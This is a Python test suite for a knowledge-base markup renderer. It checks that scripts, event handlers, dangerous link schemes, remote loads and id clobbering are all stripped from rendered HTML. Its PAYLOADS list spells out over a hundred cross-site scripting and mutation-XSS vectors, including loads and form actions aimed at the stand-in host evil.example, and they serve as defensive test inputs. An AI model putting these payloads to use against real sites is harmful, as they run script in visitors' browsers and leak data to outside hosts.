"""Nothing that a document can say runs in a reader's browser, leaves the site by itself, or takes the page's names."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import html as lxml_html

from kb.markup import finish, parse, plain, render
from kb.markup.clean import ATTRIBUTES, CLASSES, TAGS

ALLOWED_ADDRESS = re.compile(r"(?:https?://|mailto:|kb-link:|kb-wiki:|#|\?part=\d+#)", re.IGNORECASE)
PYGMENTS = re.compile(r"[a-z]{1,3}\d?")

PAYLOADS = [
    # scripts and handlers
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\n>",
    "text <script>alert(1)</script> text",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\n'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=# onclick=alert(1)>x</a>",
    "<b onmouseover=alert(1)>x</b>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#1;javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "[x](&NewLine;javascript&colon;alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://e.org/1)",
    "[x](kb-link:javascript:alert(1))",
    "[x](kb-wiki:javascript:alert(1))",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<img srcset='x 1x, javascript:alert(1) 2x' src=x>",
    "<img src=x longdesc='javascript:alert(1)' usemap=#m lowsrc=javascript:alert(1)>",
    "<a href=//evil.example>x</a>",
    "<a href='\\\\evil.example'>x</a>",
    "<a href='/\\evil.example'>x</a>",
    "<a ping=https://evil.example href=https://e.org target=_top>x</a>",
    # things that load, send or frame
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x.swf></object><embed src=x.swf><applet code=x></applet>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<form action=https://evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<img src=https://evil.example/pixel.gif>",
    "![x](//evil.example/pixel.gif)",
    "![x](HTTPS://evil.example/pixel.gif)",
    "<img src=' https://evil.example/pixel.gif'>",
    "<picture><source srcset=https://evil.example/x.png><img src=x></picture>",
    "<video poster=https://evil.example/x.png src=https://evil.example/x.mp4></video>",
    "<table background=https://evil.example/x.png><tr><td background=https://evil.example>x</table>",
    # styles
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='background:url(javascript:alert(1));position:fixed'>x</p>",
    "text {: style='position:fixed' onclick='alert(1)' }",
    "[x](http://e.org){: onclick=alert(1) style=color:red target=_blank }",
    "# Heading {: onclick=alert(1) #kb-search }",
    "<font color=red size=99>x</font>",
    # what browsers parse in ways of their own
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><img title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><img title='</xmp><img src=x onerror=alert(1)>'>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<!-- <!-- --><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version='1.0'?><x xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/>",
    "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<a title='<img src=x onerror=alert(1)>'>x</a>",
    "<p title='&quot;><img src=x onerror=alert(1)>'>x</p>",
    "<img alt='\"><script>alert(1)</script>' src=https://e.org/x>",
    "![\"onerror=alert(1) x=\"](https://e.org/x)",
    "![x](pic.png \"\\\"onerror=alert(1)\")",
    # our own additions
    "[[\"onclick=alert(1) x=\"]]",
    "[[x\"><script>alert(1)</script>|y<script>alert(1)</script>]]",
    "[[javascript:alert(1)]]",
    "[[x#\"><img src=x onerror=alert(1)>]]",
    "https://e.org/\"onclick=alert(1)",
    "https://e.org/<script>alert(1)</script>",
    "~~<script>alert(1)</script>~~",
    "```js\"><script>alert(1)</script>\nx\n```",
    "``` {.js onclick=alert(1) style=x}\n</code></pre><script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    ":::info <script>alert(1)</script>\nx\n:::",
    ":::x\"onclick=alert(1)\nx\n:::",
    "!!! note\"onclick=alert(1) \"<script>alert(1)</script>\"\n    x",
    "> [!NOTE]\n> <script>alert(1)</script>",
    "note[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x",
    "note[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
    "*[X]: \"><script>alert(1)</script>\n\nX",
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|---|\n| <img src=x onerror=alert(1)> | x |",
    "- [ ] <script>alert(1)</script>",
    "Term<script>\n: <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script> x",
    "text\n{#\"><script>alert(1)</script>}",
    "text {#x\"onclick=alert(1)}",
    "\ufdd0 \U00100000 \U0010fffd <b id='\ufdd0kb-main'>x</b> &#xFDD0; &#x100000; \x02klzzwxh:0001\x03",
    "<b id='&#xFDD0;kb-main'>x</b>",
]  # fmt: skip


def assert_safe(html):
    tree = lxml_html.fromstring(f"<div>{html}</div>")
    found = set()
    for element in tree.iter():
        assert isinstance(element.tag, str), f"a comment or instruction: {element!r}"
        assert element.tag in TAGS, element.tag
        for name, value in element.attrib.items():
            if name == "tabindex":  # ours: what scrolls sideways can be reached by keyboard, and nothing else
                assert element.tag == "pre" or element.get("class") == "table"
                assert value == "0"
                continue
            allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(element.tag, frozenset()) | {"rel"}
            assert name in allowed, f"{element.tag} {name}"
            if name in ("href", "src"):
                assert ALLOWED_ADDRESS.match(value), value
            if name == "src":
                assert value.startswith("kb-link:")
            if name == "class":
                assert all(word in CLASSES or PYGMENTS.fullmatch(word) for word in value.split())
            if name == "id":
                assert not value.lower().startswith("kb-")
                assert value.lower() not in ("location", "cookie", "body", "forms", "attributes", "parentnode", "top")
                assert value not in found, f"{value} twice"
                found.add(value)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "around", ["{}", "before {} after", "- {}", "> {}", "| a |\n|---|\n| {} |", "**{}**", "[{}](http://e.org)"]
)
def test_nothing_executes(payload, around):
    body = around.format(payload)
    parse(body)
    for shown in (render, plain):
        html = shown(body).html
        assert_safe(html)
        assert_safe(
            finish(html, lambda _: None, lambda text: [(0, len(text))]).html.replace(' id="kb-match-', ' id="m-')
        )


def test_what_a_resolver_answers_is_escaped():
    html = finish(render("[a](b.md) ![c](d.png)").html, lambda _: '/x"><script>alert(1)</script>').html
    assert "<script" not in html


def test_ids_in_html_cannot_take_those_of_the_document_or_of_the_page():
    html = render('# Budget\n\n<b id="budget">x</b> <b id="kb-main">y</b> <a name="here">z</a>').html
    assert html.count('id="budget"') == 1
    assert '<h2 id="budget">' in html
    assert 'id="section-kb-main"' in html
    assert 'id="here"' in html
    assert "name=" not in html


def test_links_to_elsewhere_tell_search_engines_nothing():
    assert 'rel="noopener nofollow"' in render("[x](https://e.org)").html


def test_only_tick_boxes_are_inputs():
    assert render("<input type=password name=p value=v>").html == '<input type="checkbox" disabled="">'


PIECES = st.sampled_from(
    [*PAYLOADS, *"<>\"'`[](){}!#*_~|\\\n \t&;:/-=", "\n\n", "    ", "- ", "> ", "1. ", "```\n", "| a |\n|---|\n",
     "<div>", "</div>", "<p title=\"", "<!--", "-->", "[^1]: ", "[[", "]]", "](", "{#x}", "&lt;", "word", ":::",
     "<a ", "<b>"]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(PIECES, max_size=12).map("".join))
def test_no_mixture_of_pieces_is_unsafe(body):
    assert_safe(render(body).html)
    assert_safe(plain(body).html)
